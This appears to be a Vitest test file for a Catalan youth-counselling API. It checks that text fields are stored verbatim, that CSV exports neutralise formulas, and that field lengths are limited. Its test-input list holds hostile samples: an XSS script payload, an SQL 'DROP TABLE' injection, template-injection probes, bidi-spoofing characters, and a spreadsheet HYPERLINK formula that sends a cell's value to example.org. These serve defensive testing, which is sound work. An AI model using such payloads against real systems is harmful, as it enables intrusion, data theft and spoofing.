import { expect, test } from 'vitest';
import { ACTIVITAT, CONSULTA, completionOf, putAssessoria } from '../support/fixtures';
import { openTestServer, type Answer } from '../support/testServer';

/** Every typed text with its limit. Texts are stored as sent, and an export has no formula. */
const FIELDS: Record<Noun, Record<string, number>> = {
  assessories: {
    'jove.nom': 200,
    'jove.cognoms': 200,
    'jove.telefon': 20,
    'jove.email': 190,
    descripcio: 2000,
    informacio_entregada: 2000,
    observacions: 2000,
  },
  completions: { comentaris: 2000 },
  consultes: { observacions: 2000 },
  activitats: { titol: 200, observacions: 2000, 'activitatValoracio.comentari': 2000 },
  professionals: { nom: 200, cognom: 200, segon_cognom: 200, telefon: 20, email: 190 },
};
const CASES = Object.entries(FIELDS).flatMap(([noun, fields]) =>
  Object.entries(fields).map(([field, max]) => ({ noun: noun as Noun, field, max })),
);

const TEXTS = [
  '<b>x</b>',
  "'; --",
  '=1+1',
  '+34 600',
  '-1',
  '@SUM(A1)',
  '\tx',
  '\u202Eabc',
  '👩‍👩‍👧',
  '" ; "',
  '%00\\0',
  '<img src=x onerror="alert(1)"><script>alert(2)</script>',
  '=HYPERLINK("http://example.org?a="&A1;"prem")',
  "Robert'); DROP TABLE consultes;-- {{7*7}} ${x}",
  'primera\r\nsegona\nter;cera',
  '\u2067dreta-esquerra\u2069 \u200Binvisible\uFEFF',
];

const toEmail = (text: string) => `${text.replaceAll(/[\s@;,:<>()[\]"\\]/g, '') || 'y'}@example.org`;

const TELEFONS = ['+34 600 000 001', '-600000002', '(93) 600.00.00-3', '600000004', '   600000005   '];

type Noun = 'assessories' | 'completions' | 'consultes' | 'activitats' | 'professionals';
type Json = Record<string, unknown>;

const { server, admin: me } = await openTestServer();

/** `{jove: {nom: 'x'}}` of the name `jove.nom`. */
const nest = (field: string, text: string): Json =>
  field
    .split('.')
    .toReversed()
    .reduce<unknown>((inner, key) => ({ [key]: inner }), text) as Json;
const read = (record: unknown, field: string): unknown =>
  field.split('.').reduce<unknown>((inner, key) => (inner as Json | null)?.[key], record);

let count = 0;
const WRITE: Record<Noun, (body: Json) => Promise<Answer>> = {
  assessories: (body) => me.patch(`/assessories/${putAssessoria(server).id}`, body),
  completions: (body) => {
    const { path, body: least } = completionOf('laboral', putAssessoria(server).id);
    return me.post(path, { ...least, ...body });
  },
  consultes: (body) => me.post('/consultes', { ...CONSULTA, ...body }),
  activitats: ({ activitatValoracio, ...body }) =>
    me.post('/activitats', {
      ...ACTIVITAT,
      ...body,
      ...(activitatValoracio !== undefined && {
        activitatValoracio: { alumnat: 5, professorat: 5, ...activitatValoracio },
      }),
    }),
  professionals: (body) => {
    const email = `nova${(count += 1)}@example.org`;
    return me.post('/professionals', {
      nom: 'Aina',
      cognom: 'Provada',
      email,
      role: 'informador',
      oficina_id: 1,
      ...body,
    });
  },
};
const PATHS: Record<Noun, string> = {
  assessories: '/assessories',
  completions: '/assessories',
  consultes: '/consultes',
  activitats: '/activitats',
  professionals: '/professionals',
};

function readCsv(content: string): string[] {
  return [...content.matchAll(/(?:^|;|\r\n)(?:"((?:[^"]|"")*)"|([^;"\r\n]*))/g)].map(
    ([, quoted, plain = '']) => quoted?.replaceAll('""', '"') ?? plain,
  );
}

function listTexts(field: string): string[] {
  if (field.endsWith('telefon')) return TELEFONS;
  return field.endsWith('email') ? TEXTS.map(toEmail) : TEXTS;
}

test.each(CASES)('$noun keeps $field exactly as sent', async ({ noun, field }) => {
  const wanted = listTexts(field);
  const kept: unknown[] = [];
  for (const text of wanted) {
    const { json } = await WRITE[noun](nest(field, text));
    const shown = await me.get(`${PATHS[noun]}/${json.data.id}`);
    kept.push(read(shown.json.data, noun === 'completions' ? `realitzada.${field}` : field));
  }
  expect(kept).toEqual(wanted);
});

// Professionals are not exported.
const EXPORTED = CASES.filter(({ noun }) => noun !== 'professionals');

test.each(EXPORTED)('$noun exports $field as a text, never as a formula', async ({ noun, field }) => {
  const wanted = listTexts(field);
  for (const text of wanted) await WRITE[noun](nest(field, text));
  const { json } = await me.get(`${PATHS[noun]}/exports/csv`);
  const cells = readCsv(json.content);
  const expected = wanted.map((text) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text));
  expect(expected.filter((cell) => !cells.includes(cell))).toEqual([]);
  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
});

test.each(CASES)('$noun accepts at most $max characters in $field', async ({ noun, field, max }) => {
  const fill = (length: number) => {
    if (field.endsWith('telefon')) return '600000001'.padEnd(length);
    return field.endsWith('email') ? `${'x'.repeat(length - 12)}@example.org` : 'x'.repeat(length);
  };
  const longest = await WRITE[noun](nest(field, fill(max)));
  expect(longest.status).toBeLessThan(300);
  const before = server.backend.getStore().log.length;
  const { status, json } = await WRITE[noun](nest(field, fill(max + 1)));
  expect([status, Object.keys(json.errors)]).toEqual([422, [field]]);
  expect(server.backend.getStore().log.length).toBe(before);
});
